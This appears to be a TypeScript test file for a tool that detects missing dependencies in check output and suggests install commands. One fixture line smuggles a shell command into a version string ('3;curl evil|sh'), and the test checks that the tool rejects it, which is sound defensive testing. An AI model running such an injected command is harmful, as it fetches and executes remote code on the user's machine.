import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { findMissing, type Missing } from '../../src/checks/find-missing.ts';
import { installCommands } from '../../src/checks/install-command.ts';
import { missingForGood, missingNotes } from '../../src/checks/missing-notes.ts';
import { outsideRemedy } from '../../src/checks/outside-remedy.ts';
import type { CheckRun } from '../../src/checks/types.ts';
import { english } from '../messages/english.ts';
import { quick } from '../quick.ts';
import { LINES, VERSIONS } from './missing-lines.ts';

describe('what a check misses', () => {
  let tree: string;
  before(() => {
    tree = mkdtempSync(path.join(tmpdir(), 'missing-'));
  });
  after(() => rmSync(tree, { recursive: true }));

  for (const [line, what, name] of LINES) {
    it(`${what}: ${line}`, () => assert.deepEqual(findMissing(`> app@1.0.0 test\n\n${line}\nmore\n`, tree), { what, name }));
  }

  for (const line of VERSIONS) it(`version: ${line}`, () => assert.deepEqual(findMissing(line, tree), { what: 'version', name: line }));

  for (const line of [
    "Error: Cannot find module './util.js'",
    "Error: Cannot find module '../src/new.js'",
    "Error: Cannot find module '/home/ann/app/src/new.js'",
    "src/a.ts(1,20): error TS2307: Cannot find module './b.js' or its corresponding type declarations.",
    'AssertionError: expected 1 to equal 2',
    'page not found',
    'GET /missing: not found',
    'fatal: not found',
    'Error: connect ECONNREFUSED 203.0.113.7:443',
    'cannot load such file -- ./helper',
    'connecting to db.example.org:5432: Connection refused',
    'it says Connection refused when the port is closed',
    'app: error: unrecognized arguments: -n',
    '    3 | #include "shop/cart.h"',
    "FileNotFoundError: [Errno 2] No such file or directory: 'data.json'",
    "expected module 'a' not found: b",
    '3:14: warning: colour not found',
  ])
    it(`nothing: ${line}`, () => assert.equal(findMissing(line, tree), null));

  it('is no module of the project itself, which the work may be about', () => {
    mkdirSync(path.join(tree, 'src/shop'), { recursive: true });
    mkdirSync(path.join(tree, 'lib/Shop'), { recursive: true });
    mkdirSync(path.join(tree, 'include/cart'), { recursive: true });
    for (const file of ['tools.py', 'till.lua']) writeFileSync(path.join(tree, file), '');
    for (const name of ['shop', 'shop.cart', 'tools']) assert.equal(findMissing(`No module named '${name}'`, tree), null);
    assert.ok(findMissing("No module named 'requests'", tree));
    assert.ok(findMissing('importlib.metadata.PackageNotFoundError: No package metadata was found for shop', tree));
    for (const line of [
      "Can't locate Shop/Cart.pm in @INC (you may need to install the Shop::Cart module) (@INC contains: /etc/perl)",
      "x.lua:1: module 'till' not found:",
      '  1 | #include <cart/item.h>',
    ])
      assert.equal(findMissing(line, tree), null, line);
  });

  it('is no program that a script did without', () => {
    const lines = ['./run-tests: line 2: tput: command not found', ...Array.from({ length: 6 }, (_, index) => `case ${index} ok`), 'FAIL'];
    assert.equal(findMissing(lines.join('\n'), tree), null);
  });

  it('is called by the port, where any line tells it', () => {
    const output = 'ConnectionRefusedError: [Errno 111] Connection refused\nError 111 connecting to localhost:6379. Connection refused.\n';
    assert.deepEqual(findMissing(output, tree), { what: 'service', name: '6379' });
  });

  it('is found in time in a hostile output', async () => {
    for (const unit of ['a', 'sh: ', 'Cannot find module ', '/', 'x@1: ', "Could not find gem '"])
      await quick(async () => findMissing(`${unit.repeat(400)}\n`.repeat(2000), tree));
  });

  /** Where this system has a package of it, that is told. */
  const bySystem = (name: string) =>
    new RegExp(
      `^\`npm test\` could not run: the program ${name} is not there(\\. To bring it, outside of the checks: \`[\\w -]+\` in \\S+)?$`,
    );

  it('is said with what installs it, once', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-root-'));
    const elsewhere = mkdtempSync(path.join(tmpdir(), 'missing-linked-'));
    const failed = (missing: Missing): CheckRun => ({
      exitCode: 1,
      killed: null,
      durationMs: 1,
      counts: null,
      failing: [],
      tail: '',
      missing,
    });
    const notes = (missing: Missing) => {
      const one = { command: 'npm test', base: null, result: failed(missing), verdict: 'cannot_run', newFailures: null } as const;
      return missingNotes([one, { ...one, command: 'npm run lint' }], ['/nowhere', root]).map(english);
    };
    try {
      assert.deepEqual(notes({ what: 'program', name: 'mocha' }), ['`npm test` could not run: the program mocha is not there']);
      writeFileSync(path.join(root, 'package-lock.json'), '{}');
      assert.deepEqual(notes({ what: 'program', name: 'mocha' }), [
        `\`npm test\` could not run: the program mocha is not there. To install what the project needs: \`npm ci\` in ${root}, or as the first of the \`checks\``,
      ]);
      assert.match(notes({ what: 'program', name: 'npm' }).join('\n'), bySystem('npm'));
      mkdirSync(path.join(root, 'node_modules'));
      assert.match(notes({ what: 'program', name: 'cargo' }).join('\n'), bySystem('cargo'));
      assert.match(notes({ what: 'package', name: 'chai' })[0] ?? '', /chai is not installed\. To install .*`npm ci`/);
      symlinkSync(elsewhere, path.join(root, 'node_modules/chai'));
      assert.deepEqual(notes({ what: 'package', name: 'chai' }), [
        `\`npm test\` could not run: the package chai is not installed. In your checkout it is a link to ${elsewhere}, another project, which commands do not see: install a copy (npm install --install-links ${elsewhere}), or go on without this check`,
      ]);
      mkdirSync(path.join(root, 'packages/own'), { recursive: true });
      symlinkSync('../packages/own', path.join(root, 'node_modules/own'));
      assert.match(notes({ what: 'package', name: 'own' })[0] ?? '', /To install/, 'a workspace, which commands see');
      assert.match(notes({ what: 'service', name: '5432' })[0] ?? '', /nothing answers at port 5432/);
      assert.match(notes({ what: 'service', name: 'Connection refused' })[0] ?? '', /could not run \(Connection refused\): services of/);
      assert.match(notes({ what: 'sandbox', name: 'No usable sandbox' })[0] ?? '', /with --no-sandbox only/);
    } finally {
      rmSync(root, { recursive: true });
      rmSync(elsewhere, { recursive: true });
    }
  });

  it('is brought from outside, where no command here can install it', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-outside-'));
    const remedy = (what: Missing['what'], name: string) => outsideRemedy({ what, name }, ['/nowhere', root])?.install ?? null;
    try {
      assert.equal(remedy('browser', 'chromium'), 'playwright install chromium');
      assert.equal(remedy('package', 'com.google.guava:guava:33.0-jre'), null);
      for (const file of ['package.json', 'build.gradle.kts']) writeFileSync(path.join(root, file), '');
      assert.equal(remedy('browser', 'firefox'), 'npx playwright install firefox');
      assert.equal(remedy('browser', 'Chrome'), 'npx puppeteer browsers install chrome');
      assert.equal(remedy('package', 'com.google.guava:guava:33.0-jre'), 'gradle test');
      writeFileSync(path.join(root, 'gradlew'), '');
      assert.equal(remedy('package', 'com.google.guava:guava:33.0-jre'), './gradlew test');
      assert.equal(remedy('package', 'chai'), null);
      assert.equal(remedy('package', 'Hex'), 'mix local.hex --force');
      const versions = [
        ["pyenv: version `3.12' is not installed (set by /a/.python-version)", 'pyenv install 3.12'],
        ["rbenv: version `3.2.2' is not installed (set by /a/.ruby-version)", 'rbenv install 3.2.2'],
        ["error: toolchain '1.70-x86_64-unknown-linux-gnu' is not installed", 'rustup toolchain install 1.70-x86_64-unknown-linux-gnu'],
        ['N/A: version "v18.0.0" is not yet installed.', 'nvm install 18.0.0'],
        ['No version is set for command ruby', 'asdf install'],
        ['error: rustup could not choose a version of cargo to run, because one', 'rustup default stable'],
        ['= note: the `wasm32-unknown-unknown` target may not be installed', 'rustup target add wasm32-unknown-unknown'],
        ['= note: the `--toolchain` target may not be installed', null],
        ["pyenv: version `3;curl evil|sh' is not installed", null],
        ["error: toolchain '--help' is not installed", null],
        ['go: go.mod requires go >= 1.25 (running go 1.19.8)', null],
      ] as const;
      for (const [said, command] of versions) assert.equal(remedy('version', said), command, said);
    } finally {
      rmSync(root, { recursive: true });
    }
  });

  it('stops an attempt with what brings it, and not what the worker can install', () => {
    const run = (missing: Missing): CheckRun => ({
      ...{ exitCode: 1, killed: null, durationMs: 1, counts: null, failing: [], tail: '', missing },
    });
    const said = (missing: Missing) => missingForGood(new Map([['npm test', run(missing)]]), ['/nowhere']).map(english);
    assert.deepEqual(said({ what: 'browser', name: 'chromium' }), [
      '`npm test` could not run: the browser chromium of the test tool is not downloaded. To bring it, outside of the checks: `playwright install chromium` in /nowhere',
    ]);
    assert.deepEqual(said({ what: 'package', name: 'chai' }), []);
  });

  it('is installed by the tool whose lock is there', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-root-'));
    try {
      assert.deepEqual(installCommands(root), []);
      for (const [file, command] of [
        ['package.json', 'npm install'],
        ['package-lock.json', 'npm ci'],
        ['yarn.lock', 'yarn install'],
        ['pnpm-lock.yaml', 'pnpm install --frozen-lockfile'],
      ] as const) {
        writeFileSync(path.join(root, file), '');
        assert.deepEqual(installCommands(root), [{ command, isDone: false, tool: command.split(' ')[0] }]);
      }
      const dotnet = mkdtempSync(path.join(root, 'dotnet-'));
      writeFileSync(path.join(dotnet, 'App.Tests.csproj'), '');
      assert.deepEqual(installCommands(dotnet), [{ command: 'dotnet restore', isDone: false, tool: 'dotnet' }]);
      writeFileSync(path.join(root, 'requirements.txt'), '');
      mkdirSync(path.join(root, 'node_modules'));
      assert.deepEqual(installCommands(root), [
        { command: 'pnpm install --frozen-lockfile', isDone: true, tool: 'pnpm' },
        { command: 'pip install -r requirements.txt', isDone: false, tool: 'pip' },
      ]);
    } finally {
      rmSync(root, { recursive: true });
    }
  });

  it('is installed without the tool of its lock where that is not on the machine', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-root-'));
    const commands = (...programs: readonly string[]) =>
      installCommands(root, (name) => programs.includes(name)).map(({ command }) => command);
    try {
      for (const [file, command] of [
        ['pdm.lock', 'pdm install'],
        ['poetry.lock', 'poetry install'],
        ['uv.lock', 'uv sync'],
      ] as const) {
        writeFileSync(path.join(root, file), '');
        assert.deepEqual(commands(command.split(' ')[0]!), [command]);
        assert.deepEqual(commands('pip'), ['pip install -e .'], file);
      }
      // what pnpm's lock says, npm does not install
      writeFileSync(path.join(root, 'pnpm-lock.yaml'), '');
      assert.deepEqual(commands('pip', 'npm'), ['pnpm install --frozen-lockfile', 'pip install -e .']);
    } finally {
      rmSync(root, { recursive: true });
    }
  });
});
